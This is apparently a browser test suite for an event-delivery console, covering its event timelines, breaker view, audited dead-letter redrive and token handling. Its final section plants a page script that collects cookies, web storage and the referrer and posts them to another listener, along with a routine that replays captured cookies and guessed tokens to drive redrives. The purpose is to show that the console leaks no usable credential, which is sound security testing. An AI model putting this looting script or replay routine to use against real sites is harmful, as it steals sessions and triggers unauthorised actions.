import { mkdir } from "node:fs/promises";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { NO_TOKEN_ID, SHELL_ID } from "../../lib/console/console-script.js";
import { FORM_TOKEN_FIELD } from "../../lib/console/page-layout.js";
import { CONSOLE_TOKEN_HEADER } from "../../lib/console/request-guard.js";
import type { EventRecord } from "../../lib/core/record.js";
import { PROJECT_ROOT } from "../../lib/infra/bundling.js";
import { consoleTokenOf } from "../support/console-client.js";
import { ANA_CALLER } from "../support/counting-caller-identity.js";
import { deadLetterEvent } from "../support/dead-letter-fixture.js";
import { anEnvelope } from "../support/factories.js";
import { launchHeadlessChromium } from "../support/headless-chromium.js";
import { breakersOpenedFor } from "../support/open-breaker.js";
import {
  CONSOLE_TEST_BY,
  type ConsoleWorld,
  seedAttempts,
  startConsoleWorld,
} from "./console-world.js";

/*
 * The console in a real browser (Debian's chromium, driven by playwright-core) against the
 * emulators, with seeded events. Set RICOCHET_CONSOLE_SCREENSHOT=1 to rewrite
 * docs/console-event.png from the event view.
 */

const SCREENSHOT = join(PROJECT_ROOT, "docs", "console-event.png");

let world: ConsoleWorld;
let browser: Browser;
let page: Page;
let retried: EventRecord;
const deadLettered: string[] = [];

beforeAll(async () => {
  world = await startConsoleWorld("console-browser");
  retried = await seedAttempts(
    world.deps.store,
    [
      {
        outcome: "retryable",
        statusCode: 503,
        message: "HTTP 503 Service Unavailable",
        delaySeconds: 4,
      },
      {
        outcome: "retryable",
        statusCode: 429,
        message: "HTTP 429 Too Many Requests",
        delaySeconds: 7,
      },
      { outcome: "success", statusCode: 200, message: "HTTP 200" },
    ],
    // The table is this file's own: readable ids, for the screenshot too.
    anEnvelope({ eventId: "order-1042:shipped" }),
  );
  for (const id of ["a", "b"]) {
    const envelope = await deadLetterEvent(
      world.deps.store,
      world.deps.deadLetterQueue,
      anEnvelope({ eventId: `refund-${id}` }),
    );
    deadLettered.push(envelope.eventId);
  }
  browser = await launchHeadlessChromium();
  page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
  // The printed address: its token goes into the tab's storage, and every later page's header.
  await page.goto(world.console.url);
  await loaded();
}, 60_000);

/** Waits for the shell a navigation got to be replaced by the page itself. */
const loaded = async (on: Page = page): Promise<void> => {
  await on.locator(`#${SHELL_ID}`).waitFor({ state: "detached" });
};

/** Opens `path` as a link or a typed address does (a navigation), and waits for its page. */
const open = async (path: string, on: Page = page): Promise<void> => {
  await on.goto(`${world.origin}${path}`);
  await loaded(on);
};

afterAll(async () => {
  await browser?.close();
  await world?.console.close();
});

describe("the console in a browser", () => {
  it("opens on the events list, with the dead-lettered events counted and no token in the address bar", async () => {
    await expect.poll(() => new URL(page.url()).pathname).toBe("/events");
    expect(new URL(page.url()).hash).toBe("");
    expect(new URL(page.url()).search).toBe("");
    await expect
      .poll(() => page.locator('[data-status="dead_lettered"] .count').textContent())
      .toBe("2");
    await expect.poll(() => page.locator("#event-list tr[data-event-id]").count()).toBe(2);
  });

  it("refreshes the list by itself when an event is delivered meanwhile", async () => {
    await open(`/events?status=delivered`);
    const rows = page.locator("#event-list tr[data-event-id]");
    await expect.poll(() => rows.count()).toBe(1);
    await seedAttempts(world.deps.store, [
      { outcome: "success", statusCode: 204, message: "HTTP 204" },
    ]);
    // No reload: htmx polls the list every refreshSeconds (2 s here).
    await expect.poll(() => rows.count(), { timeout: 10_000 }).toBe(2);
  });

  it("finds an event by its id from the search form", async () => {
    await page.fill('input[name="id"]', retried.eventId);
    await page.press('input[name="id"]', "Enter");
    await page.waitForURL((url) => url.pathname === "/event");
    await loaded();
    await expect.poll(() => page.locator("h1").textContent()).toBe(`Event ${retried.eventId}`);
  });

  it("shows an event's attempts on a timeline that matches its record", async () => {
    await open(`/event?id=${encodeURIComponent(retried.eventId)}`);
    const items = page.locator("ol.timeline li.attempt");
    await expect.poll(() => items.count()).toBe(retried.history.length);
    for (const [index, entry] of retried.history.entries()) {
      const item = items.nth(index);
      expect(await item.getAttribute("data-attempt")).toBe(String(entry.attempt));
      expect(await item.getAttribute("data-outcome")).toBe(entry.outcome);
      expect(await item.getAttribute("data-status-code")).toBe(String(entry.statusCode));
      expect(await item.getAttribute("data-delay")).toBe(
        entry.delaySeconds === undefined ? "" : String(entry.delaySeconds),
      );
      const text = await item.textContent();
      expect(text).toContain(entry.claimedAt);
      expect(text).toContain(entry.finishedAt);
      expect(text).toContain(entry.message);
    }
    const actual = await page.locator("table.schedule td.actual").allInnerTexts();
    expect(actual.slice(0, 2)).toEqual(["4 s", "7 s"]);
    // The same attempts drawn on the time axis above the list, each bar titled.
    const chart = page.locator("svg.timeline-chart");
    expect(await chart.locator('rect[data-kind="attempt"] > title').allTextContents()).toEqual([
      "attempt 1: retryable HTTP 503, HTTP 503 Service Unavailable",
      "attempt 2: retryable HTTP 429, HTTP 429 Too Many Requests",
      "attempt 3: success HTTP 200, HTTP 200",
    ]);
    expect(await chart.locator('rect[data-kind="wait"] > title').allTextContents()).toEqual([
      "wait 4s before the next attempt",
      "wait 7s before the next attempt",
    ]);
    if (process.env.RICOCHET_CONSOLE_SCREENSHOT === "1") {
      await mkdir(dirname(SCREENSHOT), { recursive: true });
      await page.screenshot({ path: SCREENSHOT, fullPage: true });
    }
  });

  it("shows a failing target's breaker open, its last error redacted", async () => {
    const partner = "http:https://partner.example:443";
    await breakersOpenedFor(
      world.deps.targetState,
      partner,
      "HTTP 503: Bearer abc.def.ghi says no",
    );
    await open(`/targets`);
    const row = page.locator(`tr[data-target="${partner}"]`);
    expect(await row.locator("[data-state]").getAttribute("data-state")).toBe("open");
    const text = (await row.textContent()) ?? "";
    expect(text).toContain("HTTP 503");
    expect(text).not.toContain("abc.def.ghi");
  });

  it("redrives from the dead-letter page only after a dry run and a confirmation, audited like the CLI", async () => {
    await open(`/dead-letters`);
    await expect
      .poll(() => page.locator('section[data-reason="exhausted"] .count').textContent())
      .toBe("2");
    await page.selectOption('select[name="reason"]', "exhausted");
    await page.fill('input[name="why"]', "partner API fixed");
    await page.click('#redrive-form button[type="submit"]');

    // htmx posts it (with the token's header) and puts the answer in the page's place.
    await expect.poll(() => page.locator("tr[data-moved]").count(), { timeout: 20_000 }).toBe(2);
    expect(new URL(page.url()).pathname).toBe("/dead-letters/redrive/job");
    expect(await page.locator("p.summary").textContent()).toContain("Dry run: 2 would move");
    for (const id of deadLettered) {
      const record = await world.deps.store.get(id);
      expect(record?.status).toBe("dead_lettered");
      expect(record?.redrives).toEqual([]);
    }

    // The confirmation moves what the dry run showed, and nothing dead-lettered since.
    expect(
      (await page.locator('#confirm-form input[name="eventIds"]').getAttribute("value"))?.split(
        " ",
      ),
    ).toEqual(expect.arrayContaining(deadLettered));
    await deadLetterEvent(
      world.deps.store,
      world.deps.deadLetterQueue,
      anEnvelope({ eventId: "late" }),
    );
    await page.click('#confirm-form button[type="submit"]');
    await expect
      .poll(() => page.locator("p.summary").textContent(), { timeout: 20_000 })
      .toContain("2 moved");
    for (const id of deadLettered) {
      const record = await world.deps.store.get(id);
      expect(record?.redrives).toHaveLength(1);
      expect(record?.redrives[0]).toMatchObject({
        by: CONSOLE_TEST_BY,
        reason: "partner API fixed",
        caller: ANA_CALLER,
        previousStatus: "dead_lettered",
      });
    }

    expect((await world.deps.store.get("late"))?.redrives).toEqual([]);

    // The redrive is on the event's own timeline too.
    await open(`/event?id=${encodeURIComponent(deadLettered[0] ?? "")}`);
    const audit = page.locator('ol.timeline li.audit[data-action="redriven"]');
    await expect.poll(() => audit.count()).toBe(1);
    expect(await audit.locator(".by").textContent()).toBe(CONSOLE_TEST_BY);
  });
});

describe("the console in a browser, across full page loads", () => {
  const heading = () => page.locator("h1").textContent();

  it("keeps working on links, reload, back and forward, its token kept in the tab, not the address", async () => {
    await open("/targets");
    expect(await heading()).toBe("Targets");
    await page.click('header a[href="/dead-letters"]');
    await loaded();
    expect(await heading()).toBe("Dead letters");
    await page.reload();
    await loaded();
    expect(await heading()).toBe("Dead letters");
    await page.goBack();
    await loaded();
    expect(await heading()).toBe("Targets");
    await page.goForward();
    await loaded();
    expect(await heading()).toBe("Dead letters");
    expect(await page.locator("#redrive-form").count()).toBe(1);
    expect(page.url()).toBe(`${world.origin}/dead-letters`);
  });

  it("tells a tab that never opened the printed address why it gets nothing", async () => {
    const elsewhere = await browser.newPage();
    try {
      await elsewhere.goto(`${world.origin}/dead-letters`);
      await expect.poll(() => elsewhere.locator(`#${NO_TOKEN_ID}`).isVisible()).toBe(true);
      expect(await elsewhere.locator("#redrive-form").count()).toBe(0);
    } finally {
      await elsewhere.close();
    }
  });
});

/** A request another listener heard: its headers and body. */
interface Heard {
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** A page that hands its listener whatever its origin can read: cookies, storage, referrer. */
const LOOTING_PAGE = `<!doctype html><title>elsewhere</title><script>
const loot = { cookie: document.cookie, session: Object.entries(sessionStorage),
  local: Object.entries(localStorage), referrer: document.referrer };
fetch("/loot", { method: "POST", body: JSON.stringify(loot) })
  .then(() => { document.title = "looted"; });
</script>`;

/** Another listener on 127.0.0.1, as any local process may run: it keeps what it hears. */
const startOtherListener = async (): Promise<{ server: Server; url: string; heard: Heard[] }> => {
  const heard: Heard[] = [];
  const server = createServer((req, res) => {
    let body = "";
    req.setEncoding("utf8");
    req.on("data", (chunk: string) => {
      body += chunk;
    });
    req.on("end", () => {
      heard.push({ headers: req.headers, body });
      res.writeHead(200, { "content-type": "text/html" });
      res.end(req.url === "/" ? LOOTING_PAGE : "");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard };
};

const HEADER_SAFE = /^[\x21-\x7e]+$/;

/**
 * What a process outside the browser can make of what it heard: every Cookie header replayed,
 * every word of 16 characters or more tried as the console's token. With each, it reads the
 * dead-letter page and posts a confirmed redrive of `eventId` with a fresh budget, with the
 * page's hidden fields if it got the page. Answers how many reads got the page.
 */
const driveWith = async (heard: readonly Heard[], eventId: string): Promise<number> => {
  const values = heard.flatMap((h) => [...Object.values(h.headers).flat(), h.body]);
  const words = [...new Set(values.flatMap((v) => (v ?? "").split(/[\s;,=&"'[\]{}()]+/)))].filter(
    (w) => w.length >= 16 && HEADER_SAFE.test(w),
  );
  const credentials: Record<string, string>[] = [
    ...heard.flatMap((h) => (h.headers.cookie === undefined ? [] : [{ cookie: h.headers.cookie }])),
    ...words.map((w) => ({ [CONSOLE_TOKEN_HEADER]: w })),
  ];
  let pagesRead = 0;
  for (const headers of credentials) {
    const response = await fetch(`${world.origin}/dead-letters`, { headers });
    const text = await response.text();
    const readable = response.status === 200 && text.includes('id="redrive-form"');
    if (readable) pagesRead += 1;
    const hidden = readable
      ? [...text.matchAll(/<input type="hidden" name="([^"]+)" value="([^"]*)">/g)].map(
          (m): [string, string] => [m[1] ?? "", m[2] ?? ""],
        )
      : [];
    const guessed = headers[CONSOLE_TOKEN_HEADER] ?? "";
    await fetch(`${world.origin}/dead-letters/redrive`, {
      method: "POST",
      headers,
      // The guess in every token field, unless the page gave the field's value.
      body: new URLSearchParams({
        token: guessed,
        [FORM_TOKEN_FIELD]: guessed,
        ...Object.fromEntries(hidden),
        eventIds: eventId,
        resetAttempts: "on",
        why: "driven from another listener",
        confirm: "yes",
      }),
    });
  }
  return pagesRead;
};

describe("another listener on 127.0.0.1, visited after the console", () => {
  it("gets no credential that reads the console or drives a redrive, though the token itself would", async () => {
    const target = await deadLetterEvent(
      world.deps.store,
      world.deps.deadLetterQueue,
      anEnvelope({ eventId: "refund-elsewhere" }),
    );
    const other = await startOtherListener();
    try {
      // The operator uses the console, then follows a link from another site to the listener.
      await open("/dead-letters");
      expect(await page.locator("#redrive-form").count()).toBe(1);
      await page.goto(other.url, { referer: "https://news.example/" });
      await expect.poll(() => page.title()).toBe("looted");
      expect(other.heard.length).toBeGreaterThanOrEqual(2);

      expect(await driveWith(other.heard, target.eventId)).toBe(0);
      expect((await world.deps.store.get(target.eventId))?.redrives).toEqual([]);

      // The same attack with the printed token in hand reads the page and moves the event: had
      // the listener been handed a working credential, the checks above would have failed.
      const token = consoleTokenOf(world.console.url);
      expect(await driveWith([{ headers: {}, body: token }], target.eventId)).toBe(1);
      expect((await world.deps.store.get(target.eventId))?.redrives).toHaveLength(1);
    } finally {
      await new Promise((resolve) => other.server.close(resolve));
    }
    // A browser and a replay of every word the listener heard: slow on a loaded CI machine.
  }, 120_000);
});
